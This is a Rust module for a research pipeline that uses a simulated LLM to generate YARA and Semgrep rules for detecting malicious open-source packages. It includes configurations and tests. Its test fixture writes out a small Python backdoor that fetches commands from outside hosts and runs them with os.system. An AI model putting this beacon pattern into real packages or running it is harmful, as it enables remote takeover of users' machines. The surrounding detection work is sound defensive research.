//! End-to-end orchestration of craft → refine → align (Fig. 3).

use std::collections::{HashMap, HashSet};

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use llm_sim::{LlmSim, ModelProfile, Prompt, RuleFormat};
use oss_registry::Package;

use crate::align::align_rule;
use crate::extraction::extract_knowledge;

/// Pipeline configuration; the boolean knobs are the Table X ablation
/// arms.
#[derive(Debug, Clone)]
pub struct PipelineConfig {
    /// The LLM profile driving generation.
    pub model: ModelProfile,
    /// Master seed for unit sampling and LLM noise.
    pub seed: u64,
    /// Split code into basic units (§IV-A). Off = whole files go into the
    /// prompt and get truncated at the context window.
    pub use_basic_units: bool,
    /// Run the Table IV refinement step (§IV-B).
    pub use_refine: bool,
    /// Fix attempts for the alignment agent; 0 = compile once and drop
    /// failures (the no-alignment arm).
    pub max_fix_attempts: usize,
    /// K-Means cluster count; `None` = `max(1, n/4)`.
    pub cluster_k: Option<usize>,
    /// Similar units per crafting prompt (the paper uses two samples).
    pub units_per_prompt: usize,
    /// One YARA prompt per this many group members.
    pub yara_density: usize,
    /// One Semgrep prompt per this many group members.
    pub semgrep_density: usize,
    /// Generate metadata-based rules (§III-A / Table II metadata audits).
    pub generate_metadata_rules: bool,
    /// Ground every crafting analysis against the built-in security
    /// knowledge base (the §VI RAG extension; off in the paper's runs).
    pub use_rag: bool,
}

impl PipelineConfig {
    /// The full RuleLLM configuration (Table X row 4).
    pub fn full() -> Self {
        PipelineConfig {
            model: ModelProfile::gpt4o(),
            seed: 42,
            use_basic_units: true,
            use_refine: true,
            max_fix_attempts: 5,
            cluster_k: None,
            units_per_prompt: 2,
            yara_density: 4,
            semgrep_density: 6,
            generate_metadata_rules: true,
            use_rag: false,
        }
    }

    /// The §VI extension: the full pipeline with retrieval-augmented
    /// crafting.
    pub fn full_with_rag() -> Self {
        PipelineConfig {
            use_rag: true,
            ..PipelineConfig::full()
        }
    }

    /// Table X row 1: the LLM alone — whole files, no refinement, no
    /// alignment.
    pub fn llm_alone() -> Self {
        PipelineConfig {
            use_basic_units: false,
            use_refine: false,
            max_fix_attempts: 0,
            ..PipelineConfig::full()
        }
    }

    /// Table X row 2: LLM + rule alignment.
    pub fn llm_align() -> Self {
        PipelineConfig {
            use_basic_units: false,
            use_refine: false,
            ..PipelineConfig::full()
        }
    }

    /// Table X row 3: LLM + basic-unit rules + alignment.
    pub fn llm_units_align() -> Self {
        PipelineConfig {
            use_refine: false,
            ..PipelineConfig::full()
        }
    }

    /// Swaps the model profile (Table IX sweep).
    pub fn with_model(mut self, model: ModelProfile) -> Self {
        self.model = model;
        self
    }
}

/// One deployable generated rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GeneratedRule {
    /// Full rule text (YARA source or Semgrep YAML).
    pub text: String,
    /// The rule format.
    pub format: RuleFormat,
    /// Indices (into the pipeline input) of the packages the rule was
    /// crafted from.
    pub provenance: Vec<usize>,
    /// Source group id, when crafted from a code group.
    pub group: Option<usize>,
}

/// Pipeline counters.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PipelineStats {
    /// Crafting prompts issued.
    pub crafted: usize,
    /// Refinement prompts issued.
    pub refined: usize,
    /// Rules that compiled (possibly after fixes).
    pub aligned_ok: usize,
    /// Rules dropped after exhausting fix attempts.
    pub dropped: usize,
    /// Total fix attempts across all rules.
    pub fix_attempts: usize,
    /// Total LLM completions served.
    pub llm_completions: u64,
}

/// The pipeline output: deployable rules plus counters.
#[derive(Debug, Clone)]
pub struct PipelineOutput {
    /// YARA rules.
    pub yara: Vec<GeneratedRule>,
    /// Semgrep rules.
    pub semgrep: Vec<GeneratedRule>,
    /// Counters.
    pub stats: PipelineStats,
}

impl PipelineOutput {
    /// Concatenated YARA ruleset source (names are made unique by the
    /// pipeline, so the result compiles as one file).
    pub fn yara_ruleset(&self) -> String {
        let mut out = String::new();
        for r in &self.yara {
            out.push_str(&r.text);
            if !r.text.ends_with('\n') {
                out.push('\n');
            }
            out.push('\n');
        }
        out
    }
}

/// The RuleLLM pipeline.
#[derive(Debug)]
pub struct Pipeline {
    config: PipelineConfig,
    llm: LlmSim,
    rng: StdRng,
}

impl Pipeline {
    /// Creates a pipeline from a configuration.
    pub fn new(config: PipelineConfig) -> Self {
        let mut llm = LlmSim::new(config.model.clone(), config.seed);
        if config.use_rag {
            llm = llm.with_knowledge_base(llm_sim::KnowledgeBase::security_default());
        }
        let rng = StdRng::seed_from_u64(config.seed.wrapping_mul(0x2545F4914F6CDD1D));
        Pipeline { config, llm, rng }
    }

    /// The active configuration.
    pub fn config(&self) -> &PipelineConfig {
        &self.config
    }

    /// Runs the full pipeline over `packages` (the deduplicated malware
    /// corpus in the paper's setting).
    pub fn run(&mut self, packages: &[&Package]) -> PipelineOutput {
        let knowledge = extract_knowledge(packages, self.config.cluster_k);
        let mut stats = PipelineStats::default();
        let mut yara = Vec::new();
        let mut semgrep = Vec::new();

        for (gid, group) in knowledge.groups.iter().enumerate() {
            let yara_prompts = (group.len() / self.config.yara_density).max(1);
            let semgrep_prompts = (group.len() / self.config.semgrep_density).max(1);
            for p in 0..yara_prompts {
                if let Some(rule) =
                    self.generate_one(&knowledge, group, gid, p, RuleFormat::Yara, &mut stats)
                {
                    yara.push(rule);
                }
            }
            for p in 0..semgrep_prompts {
                if let Some(rule) =
                    self.generate_one(&knowledge, group, gid, p, RuleFormat::Semgrep, &mut stats)
                {
                    semgrep.push(rule);
                }
            }
        }

        // §IV-A treats the package metadata as a basic unit, so
        // metadata-audit rules exist only in the basic-unit arms.
        if self.config.generate_metadata_rules && self.config.use_basic_units {
            self.metadata_rules(&knowledge, &mut stats, &mut yara);
        }

        dedup_and_uniquify(&mut yara, RuleFormat::Yara);
        dedup_and_uniquify(&mut semgrep, RuleFormat::Semgrep);
        stats.llm_completions = self.llm.completions;
        PipelineOutput {
            yara,
            semgrep,
            stats,
        }
    }

    /// One craft → refine → align round over sampled units of a group.
    fn generate_one(
        &mut self,
        knowledge: &crate::extraction::PackageGroups,
        group: &[usize],
        gid: usize,
        round: usize,
        format: RuleFormat,
        stats: &mut PipelineStats,
    ) -> Option<GeneratedRule> {
        // Sample `units_per_prompt` members, offset by round so different
        // prompts see different parts of the group.
        let mut members = Vec::new();
        for i in 0..self.config.units_per_prompt.min(group.len()).max(1) {
            let pick = group[(round * 2 + i + self.rng.gen_range(0..group.len())) % group.len()];
            members.push(pick);
        }
        let mut inputs = Vec::new();
        for &m in &members {
            let e = &knowledge.packages[m];
            if self.config.use_basic_units {
                if e.units.is_empty() {
                    continue;
                }
                // Table II audit ranking: successive rounds rotate through
                // the most suspicious units so each prompt covers a
                // different malicious place of the package.
                let ranked = e.ranked_units();
                let suspicious: Vec<usize> = ranked
                    .iter()
                    .copied()
                    .filter(|&i| e.unit_scores[i] > 0)
                    .collect();
                let pick = if suspicious.is_empty() {
                    ranked[round % ranked.len()]
                } else {
                    suspicious[round % suspicious.len()]
                };
                inputs.push(e.units[pick].code.clone());
            } else {
                inputs.push(e.code.clone());
            }
        }
        if inputs.is_empty() {
            return None;
        }
        let craft = Prompt::craft(format, &inputs, None);
        let refine = self.config.use_refine;
        self.round(knowledge, format, craft, refine, &members, Some(gid), stats)
    }

    /// One craft → refine (when `refine`) → align round, booked in
    /// `stats`: the rule in `format` (the crafting prompt's) that survives
    /// alignment, credited to `members` of `group`.
    #[allow(clippy::too_many_arguments)]
    fn round(
        &mut self,
        knowledge: &crate::extraction::PackageGroups,
        format: RuleFormat,
        craft: Prompt,
        refine: bool,
        members: &[usize],
        group: Option<usize>,
        stats: &mut PipelineStats,
    ) -> Option<GeneratedRule> {
        stats.crafted += 1;
        let reply = self.llm.complete(&craft);
        let (analysis, mut rule) = llm_sim::split_reply(&reply);
        if rule.contains("__no_indicators_extracted__") || rule.contains("__no_pattern_extracted__")
        {
            return None;
        }
        if refine {
            let refine_prompt = Prompt::refine(format, &analysis, &rule);
            stats.refined += 1;
            let refined_reply = self.llm.complete(&refine_prompt);
            let (_, refined) = llm_sim::split_reply(&refined_reply);
            rule = refined;
        }
        let outcome = align_rule(
            &mut self.llm,
            format,
            &analysis,
            rule,
            self.config.max_fix_attempts,
        );
        stats.fix_attempts += outcome.attempts;
        let Some(text) = outcome.rule else {
            stats.dropped += 1;
            return None;
        };
        stats.aligned_ok += 1;
        Some(GeneratedRule {
            text,
            format,
            provenance: members
                .iter()
                .map(|&m| knowledge.packages[m].index)
                .collect(),
            group,
        })
    }

    /// Metadata-audit rules: packages sharing a metadata red-flag profile
    /// get one broad rule (the paper's "fake version" rule detects 568
    /// packages).
    fn metadata_rules(
        &mut self,
        knowledge: &crate::extraction::PackageGroups,
        stats: &mut PipelineStats,
        yara: &mut Vec<GeneratedRule>,
    ) {
        let mut by_profile: HashMap<Vec<String>, Vec<usize>> = HashMap::new();
        for (i, e) in knowledge.packages.iter().enumerate() {
            let audit = llm_sim::analyze_metadata(&e.metadata_json);
            if audit.indicators.is_empty() {
                continue;
            }
            // Profile = the *shape* of the red flags (field names), not
            // the concrete values, so variants share a profile.
            let mut profile: Vec<String> = audit
                .indicators
                .iter()
                .map(|ind| ind.text.split(':').next().unwrap_or("flag").to_owned())
                .collect();
            profile.sort();
            profile.dedup();
            by_profile.entry(profile).or_default().push(i);
        }
        // Deterministic processing order (HashMap iteration is not).
        let mut profiles: Vec<(Vec<String>, Vec<usize>)> = by_profile.into_iter().collect();
        profiles.sort();
        let format = RuleFormat::Yara;
        for (_, members) in profiles {
            let metadata = knowledge.packages[members[0]].metadata_json.clone();
            let craft = Prompt::craft(format, &[String::new()], Some(metadata));
            yara.extend(self.round(knowledge, format, craft, false, &members, None, stats));
        }
    }
}

/// Extracts the YARA rule name or Semgrep id from rule text.
fn rule_identifier(text: &str, format: RuleFormat) -> Option<String> {
    match format {
        RuleFormat::Yara => text
            .split_whitespace()
            .skip_while(|w| *w != "rule")
            .nth(1)
            .map(|n| n.trim_end_matches('{').to_owned()),
        RuleFormat::Semgrep => text
            .lines()
            .find_map(|l| l.trim().trim_start_matches("- ").strip_prefix("id:"))
            .map(|s| s.trim().to_owned()),
    }
}

/// Drops exact duplicates and renames identifier collisions so the whole
/// set deploys as one ruleset.
fn dedup_and_uniquify(rules: &mut Vec<GeneratedRule>, format: RuleFormat) {
    let mut seen_text = HashSet::new();
    rules.retain(|r| seen_text.insert(digest::fnv1a(r.text.as_bytes())));
    let mut used: HashMap<String, usize> = HashMap::new();
    for r in rules.iter_mut() {
        let Some(id) = rule_identifier(&r.text, format) else {
            continue;
        };
        let n = used.entry(id.clone()).or_insert(0);
        *n += 1;
        if *n > 1 {
            let new_id = format!("{id}_v{n}");
            match format {
                RuleFormat::Yara => {
                    r.text = r.text.replacen(&id, &new_id, 1);
                }
                RuleFormat::Semgrep => {
                    r.text = r
                        .text
                        .replacen(&format!("id: {id}"), &format!("id: {new_id}"), 1);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use oss_registry::{Ecosystem, PackageMetadata, SourceFile};

    fn beacon_pkg(name: &str, host: &str) -> Package {
        Package::new(
            PackageMetadata::new(name, "0.0.0"),
            vec![SourceFile::new(
                format!("{name}/__init__.py"),
                format!(
                    "import os, requests\n\ndef beacon():\n    cmd = requests.get('https://{host}/tasks').text\n    os.system(cmd)\n"
                ),
            )],
            Ecosystem::PyPi,
        )
    }

    fn small_fleet() -> Vec<Package> {
        vec![
            beacon_pkg("pkga", "one.xyz"),
            beacon_pkg("pkgb", "two.top"),
            beacon_pkg("pkgc", "three.icu"),
            beacon_pkg("pkgd", "four.site"),
        ]
    }

    #[test]
    fn full_pipeline_produces_compiling_rules() {
        let fleet = small_fleet();
        let refs: Vec<&Package> = fleet.iter().collect();
        let mut pipeline = Pipeline::new(PipelineConfig::full());
        let out = pipeline.run(&refs);
        assert!(!out.yara.is_empty(), "stats: {:?}", out.stats);
        // Every emitted rule compiles, and the whole set compiles as one
        // file (unique names).
        assert!(yara_engine::compile(&out.yara_ruleset()).is_ok());
        for r in &out.semgrep {
            assert!(semgrep_engine::compile(&r.text).is_ok(), "{}", r.text);
        }
    }

    #[test]
    fn generated_rules_match_unseen_variant() {
        let fleet = small_fleet();
        let refs: Vec<&Package> = fleet.iter().collect();
        let mut pipeline = Pipeline::new(PipelineConfig::full());
        let out = pipeline.run(&refs);
        let compiled = yara_engine::compile(&out.yara_ruleset()).expect("compile");
        let scanner = yara_engine::Scanner::new(&compiled);
        let unseen = beacon_pkg("pkge", "five.online");
        let mut buffer = unseen.combined_source();
        buffer.push_str(&oss_registry::render_pkg_info(unseen.metadata()));
        assert!(scanner.is_match(buffer.as_bytes()));
    }

    #[test]
    fn stats_are_consistent() {
        let fleet = small_fleet();
        let refs: Vec<&Package> = fleet.iter().collect();
        let mut pipeline = Pipeline::new(PipelineConfig::full());
        let out = pipeline.run(&refs);
        assert!(out.stats.crafted >= out.stats.aligned_ok);
        assert_eq!(out.stats.aligned_ok, out.yara.len() + out.semgrep.len(),);
        assert!(out.stats.llm_completions > 0);
    }

    #[test]
    fn ablation_configs_differ() {
        let alone = PipelineConfig::llm_alone();
        assert!(!alone.use_basic_units && !alone.use_refine && alone.max_fix_attempts == 0);
        let align = PipelineConfig::llm_align();
        assert!(align.max_fix_attempts == 5 && !align.use_refine);
        let units = PipelineConfig::llm_units_align();
        assert!(units.use_basic_units && !units.use_refine);
        let full = PipelineConfig::full();
        assert!(full.use_basic_units && full.use_refine && full.max_fix_attempts == 5);
    }

    #[test]
    fn deterministic_output() {
        let fleet = small_fleet();
        let refs: Vec<&Package> = fleet.iter().collect();
        let a = Pipeline::new(PipelineConfig::full()).run(&refs);
        let b = Pipeline::new(PipelineConfig::full()).run(&refs);
        assert_eq!(a.yara.len(), b.yara.len());
        for (x, y) in a.yara.iter().zip(&b.yara) {
            assert_eq!(x.text, y.text);
        }
    }

    #[test]
    fn metadata_rules_generated_for_flagged_packages() {
        let fleet = small_fleet(); // version 0.0.0 everywhere
        let refs: Vec<&Package> = fleet.iter().collect();
        let mut pipeline = Pipeline::new(PipelineConfig::full());
        let out = pipeline.run(&refs);
        assert!(
            out.yara.iter().any(|r| r.text.contains("0.0.0")),
            "no metadata rule keyed on the zero version"
        );
    }

    #[test]
    fn metadata_rules_can_be_disabled() {
        let fleet = small_fleet();
        let refs: Vec<&Package> = fleet.iter().collect();
        let mut cfg = PipelineConfig::full();
        cfg.generate_metadata_rules = false;
        let out = Pipeline::new(cfg).run(&refs);
        assert!(out.yara.iter().all(|r| r.group.is_some()));
    }

    #[test]
    fn provenance_points_into_input() {
        let fleet = small_fleet();
        let refs: Vec<&Package> = fleet.iter().collect();
        let out = Pipeline::new(PipelineConfig::full()).run(&refs);
        for r in out.yara.iter().chain(&out.semgrep) {
            assert!(!r.provenance.is_empty());
            assert!(r.provenance.iter().all(|&i| i < fleet.len()));
        }
    }

    #[test]
    fn empty_input_produces_no_rules() {
        let mut pipeline = Pipeline::new(PipelineConfig::full());
        let out = pipeline.run(&[]);
        assert!(out.yara.is_empty());
        assert!(out.semgrep.is_empty());
    }

    #[test]
    fn uniquify_renames_collisions() {
        let mut rules = vec![
            GeneratedRule {
                text: "rule same { condition: true }".into(),
                format: RuleFormat::Yara,
                provenance: vec![0],
                group: None,
            },
            GeneratedRule {
                text: "rule same { condition: false }".into(),
                format: RuleFormat::Yara,
                provenance: vec![1],
                group: None,
            },
        ];
        dedup_and_uniquify(&mut rules, RuleFormat::Yara);
        assert_eq!(rules.len(), 2);
        assert!(rules[1].text.contains("same_v2"));
    }
}
